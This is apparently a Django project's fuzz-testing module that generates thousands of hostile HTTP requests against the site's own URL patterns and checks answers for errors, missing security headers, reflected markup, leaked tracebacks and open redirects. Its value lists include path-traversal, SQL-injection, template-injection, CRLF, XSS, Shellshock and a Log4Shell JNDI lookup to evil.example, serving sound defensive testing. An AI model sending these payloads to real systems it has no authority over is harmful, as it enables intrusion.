"""Hostile requests from outside: every URL pattern × hostile values × methods × headers × bodies, the same each time.

`tests/test_crawl.py` sends some hundreds of them to the handler; `make drill` sends 5,000 to a real gunicorn
(`python -m tests.crawling`).
"""

import random
import re
from dataclasses import dataclass, field
from urllib.parse import quote, unquote_to_bytes, urlsplit

from django.urls import get_resolver

# Reflected anywhere as it stands, this would be markup of the attacker's.
MARK = "<hp-mark x='\">"
HUGE = "99999999999999999999"

# As they stand on the wire (percent-encoded).
VALUES = (
    *("", "0", "-1", "1", HUGE, str(2**31), str(2**63), "1e309", "NaN", "0x10", "١٢٣", "%D9%A1", "None", "[]", "{}"),
    *("%00", "a%00b", "%FF%FE", "%ED%A0%80", "%C0%AE%C0%AE%C0%AF", "%F4%90%80%80", "%25%30%30", "%2500", "%", "%zz"),
    *("a" * 10_000, "%F0%9F%92%A9" * 500, "%CC%81" * 2_000, "%E2%80%AE%E2%80%8B%EF%BB%BF", "(a%2B)%2B%24" * 50),
    *("..%2F..%2F..%2Fetc%2Fpasswd", "....//....//", "..%5C..%5Cwin.ini", "%2Fetc%2Fpasswd%00.jpg", "file%3A%2F%2F%2F"),
    *(
        "x'%20OR%201=1%20--",
        "1;SELECT%20pg_sleep(9)",
        "%27%22%29%29%3B",
        "$$;",
        "%25s%25n%7B0.__class__%7D",
        "%7B%7B7*7%7D%7D",
    ),
    *(
        quote(MARK),
        quote(f"</script>{MARK}"),
        "%0D%0ASet-Cookie:%20a=b",
        "%0d%0a%0d%0a" + quote(MARK),
        "javascript:alert(1)",
    ),
    *("//evil.example", "%2F%2Fevil.example%2F", "https:%2F%2Fevil.example", "%5C%5Cevil.example", "/%09/evil.example"),
    *("ph%E1%BB%A5%20n%E1%BB%AF", "phu%CC%A3%20nu%CC%83%CC%9B", "%C4%90%C6%B0%E1%BB%9Dng", "a" * 300, "-", "_", "."),
)
NAMES = (
    *("q", "trang", "page", "p", "o", "next", "loai", "nam", "the", "cm", "tu", "den", "dau", "chuyen_muc", "id", "pk"),
    *(
        "_popup",
        "_to_field",
        "CKEditorFuncNum",
        "token",
        "ma",
        "website",
        "username",
        "password",
        "e",
        "%00",
        "q%00",
        "[]",
    ),
)
METHODS = ("GET",) * 10 + (
    "HEAD",
    "POST",
    "POST",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "PROPFIND",
    "get",
)
HEADER_VALUES = (
    *(
        "",
        "null",
        "evil.example",
        "https://evil.example",
        "a" * 4_000,
        "\xff\xfe",
        "\u1ebf",
        HUGE,
        "-1",
        "*",
        'W/"',
        '"' * 99,
    ),
    *("() { :;}; /bin/id", "${jndi:ldap://evil.example/a}", "%00%0a", MARK, ";" * 500, "=" * 500, ",".join("a" * 500)),
)
HEADERS = (
    *("Host", "Origin", "Referer", "User-Agent", "Cookie", "Accept", "Accept-Encoding", "Accept-Language", "Range"),
    *("If-None-Match", "If-Modified-Since", "If-Match", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto"),
    *("X-HTTP-Method-Override", "X-Requested-With", "X-CSRFToken", "Authorization", "Sec-Fetch-Site", "X-Request-ID"),
    *("X-Original-URL", "X-Rewrite-URL", "Forwarded", "True-Client-IP", "Upgrade-Insecure-Requests", "Purpose"),
)
COOKIES = (
    "sessionid={}",
    "__Host-sessionid={}",
    "csrftoken={}",
    "messages={}",
    "{}={}",
    "={}",
    "sessionid={}; sessionid={}",
)
TYPES = (
    *(
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "multipart/form-data",
        "application/json",
    ),
    *("text/plain", "text/html; charset=utf-7", "application/x-www-form-urlencoded; charset=nothing", "a/b;" * 99, ""),
    *("multipart/form-data; boundary=\xff", "multipart/form-data; boundary=" + "x" * 300, "application/csp-report"),
)
# What a path of each converter or group looks like where nobody attacks it.
PLAIN = {"pk": "1", "number": "1", "year": "2025", "month": "06", "extension": "pdf", "lang": "km", "kind": "tin-tuc"}


@dataclass
class Request:
    method: str
    target: str
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes = b""

    def __str__(self):
        told = f"{self.method} {self.target[:150]} {[(name, value[:60]) for name, value in self.headers]}"
        return f"{told} {self.body[:80]!r}"

    def environ(self) -> dict:
        """As a WSGI server hands it over."""
        path, _, query = self.target.partition("?")
        environ = {
            "REQUEST_METHOD": self.method,
            "PATH_INFO": unquote_to_bytes(path).decode("latin-1"),
            "QUERY_STRING": query.encode().decode("latin-1"),
            "CONTENT_LENGTH": str(len(self.body)),
        }
        for name, value in self.headers:
            key = name.upper().replace("-", "_")
            environ[key if key == "CONTENT_TYPE" else f"HTTP_{key}"] = value.encode().decode("latin-1")
        return environ


def templates(resolver=None, before="") -> list[str]:
    """Each URL pattern there is, the admin's too, as `tin-tuc/%(slug)s-%(pk)s/`."""
    resolver = resolver or get_resolver()
    found = {
        before + template
        for name in resolver.reverse_dict
        for possibilities, *_ in resolver.reverse_dict.getlist(name)
        for template, _ in possibilities
    }
    for prefix, inner in resolver.namespace_dict.values():
        found |= set(templates(inner, before + re.sub(r"\\(.)", r"\1", prefix)))  # the prefix is a regular expression
    return sorted(found)


def requests(count: int, paths=(), seed=20251018):
    """So many requests; `paths` are addresses of rows that exist, attacked as well."""
    chance, all_templates = random.Random(seed), templates()
    chance.shuffle(all_templates)
    for number in range(count):
        if paths and chance.random() < 0.3:
            path = chance.choice(paths)
            if chance.random() < 0.3:
                path = path.rstrip("/") + chance.choice(("", "//", "/%2e%2e/", "%00/", ";a=b/")) + chance.choice(VALUES)
        else:
            path = "/" + filled(all_templates[number % len(all_templates)], chance)
        if chance.random() < 0.6:
            pairs = [f"{chance.choice(NAMES)}={chance.choice(VALUES)}" for _ in range(chance.choice((1, 1, 2, 5)))]
            path += "?" + "&".join(pairs)
        method = chance.choice(METHODS)
        yield Request(method, path, *headed(method, chance))


def filled(template: str, chance) -> str:
    class Filler(dict):
        def __missing__(self, name):
            return chance.choice(VALUES) if chance.random() < 0.5 else PLAIN.get(name, "x")

    return template % Filler()


def headed(method: str, chance) -> tuple[list, bytes]:
    headers = [("Host", "localhost")]
    for _ in range(chance.choice((0, 0, 1, 2, 4))):
        name, value = chance.choice(HEADERS), chance.choice(HEADER_VALUES)
        if name == "Cookie":
            value = chance.choice(COOKIES).format(value, value)
        if name == "Host":
            headers = [each for each in headers if each[0] != "Host"]
        headers.append((name, value))
    if method not in ("POST", "PUT", "PATCH"):
        return headers, b""
    kind = chance.choice(TYPES)
    pairs = [(chance.choice(NAMES), chance.choice(VALUES)) for _ in range(4)]
    if kind.startswith("multipart") and chance.random() < 0.7:
        disposition = 'Content-Disposition: form-data; name="{}"; filename="{}"\r\n\r\n{}\r\n'
        body = "".join(f"--x\r\n{disposition.format(name, value, value)}" for name, value in pairs) + "--x--"
    else:
        body = chance.choice(("&".join(f"{name}={value}" for name, value in pairs), "{" * 3_000, "\x00\xff", ""))
    return [*headers, ("Content-Type", kind)], body.encode("latin-1", "replace")


WANTED = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Cross-Origin-Resource-Policy": "same-origin",
    "Cross-Origin-Opener-Policy": "same-origin",
}
ALWAYS = ("Content-Security-Policy", "Permissions-Policy", "Referrer-Policy")


def missing_headers(headers) -> list[str]:
    """Which of the headers that every answer has are not there, or say something else."""
    wrong = [f"{name}: {headers.get(name)}" for name, value in WANTED.items() if headers.get(name) != value]
    return wrong + [f"no {name}" for name in ALWAYS if not headers.get(name)]


def faults(request: Request, status: int, headers, content: bytes, leads=()) -> list[str]:
    """What is wrong with an answer; `leads` are the hosts it may send readers to, beside our own."""
    found = [f"{status}"] if status >= 500 else []
    found += missing_headers(headers)
    if headers.get("Access-Control-Allow-Origin"):
        found.append("CORS")
    if MARK.encode() in content:
        found.append("reflected")
    if b"Traceback" in content or b"<Http" in content:
        found.append("tells of the code")
    location = urlsplit(headers.get("Location") or "")
    if location.scheme not in ("", "http", "https") or location.netloc not in ("", "localhost", *leads):
        found.append(f"leads to {location.geturl()[:80]}")
    is_page = (headers.get("Content-Type") or "").startswith("text/html")
    if status >= 400 and content and is_page and b'<html lang="vi"' not in content:
        found.append("not in Vietnamese")
    return found


def rows() -> tuple[list[str], list[str]]:
    """Make a row of each noun: (the paths of the rows and of some pages about them, the hosts the site leads to)."""
    from tests import factories as make

    org, _, _ = make.make_organisation(), make.make_hotline(is_primary=True), make.make_team()
    article, document = make.make_article(tags=["trẻ em"]), make.make_document(files=["Bản ký"])
    draft = make.make_consultation()
    paths = [row.get_absolute_url() for row in (article, document, draft, make.make_page())]
    paths += [f"/tep/{document.files.get().file.name}", f"{paths[0]}bao-loi/", f"{paths[2]}gop-y/"]
    paths += ["/", "/tim-kiem/", "/ho-tro/gui/", "/ho-tro/tra-loi/", "/quan-tri/login/", "/lien-ket/bao-hong/"]
    return paths, [urlsplit(org.exit_url).netloc]
